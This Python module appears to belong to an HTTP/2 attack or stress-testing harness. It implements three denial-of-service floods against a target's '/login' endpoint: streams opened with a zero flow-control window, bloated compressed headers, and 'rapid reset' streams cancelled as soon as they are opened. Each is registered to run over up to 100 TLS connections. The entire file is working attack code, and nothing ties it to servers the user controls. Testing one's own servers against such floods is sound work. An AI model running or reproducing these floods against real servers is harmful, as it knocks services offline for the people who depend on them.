"""HTTP/2: answers that are never taken, heads that wait for their turn, and streams that are reset as soon as they are asked for."""

import asyncio
import struct
from functools import partial

from attack import Attack
from hostile import RST_STREAM, frame, get_stream, hello, send, swarm, until_ended

AT_ONCE = 500
LAST_STREAM = 120_000
CANCEL = struct.pack(">I", 8)


async def untaken(target, count):
    async def script(reader, writer, _):
        await send(writer, hello(window=0))
        stalled = asyncio.ensure_future(until_ended(reader, 3600))
        try:
            for first in range(1, LAST_STREAM, 2 * AT_ONCE):
                await send(writer, b"".join(get_stream(first + 2 * n, "/login") for n in range(AT_ONCE)))
                if stalled.done():
                    return
            await stalled
        finally:
            stalled.cancel()

    await swarm(target, count, script, target.http2_context)


async def waiting(target, count):
    """A few bytes each for heads that are as long as they may be."""
    field = b"\x40\x01a\x00"
    again = b"\xbe"

    async def script(reader, writer, _):
        await send(writer, hello(window=0))
        ended = asyncio.ensure_future(until_ended(reader, 3600))
        try:
            for first in range(1, LAST_STREAM, 200):
                await send(writer, b"".join(get_stream(first + 2 * n, "/login", field + again * 360) for n in range(100)))
                await asyncio.wait([ended], timeout=1)
                if ended.done():
                    return
        finally:
            ended.cancel()

    await swarm(target, count, script, target.http2_context)


async def reset(target, count):
    async def script(reader, writer, _):
        await send(writer, hello(window=65535))
        ended = asyncio.ensure_future(until_ended(reader, 3600))
        try:
            for first in range(1, LAST_STREAM, 2 * AT_ONCE):
                ids = range(first, first + 2 * AT_ONCE, 2)
                await send(writer, b"".join(get_stream(n, "/login") + frame(RST_STREAM, n, CANCEL) for n in ids))
                if ended.done():
                    return
        finally:
            ended.cancel()

    await swarm(target, count, script, target.http2_context)


ATTACKS = {
    "untaken-streams": Attack(partial(untaken, count=1), connections=1, tls=True),
    "untaken-streams-100": Attack(partial(untaken, count=100), tls=True),
    "waiting-heads": Attack(partial(waiting, count=100), tls=True),
    "rapid-reset": Attack(partial(reset, count=100), tls=True),
}
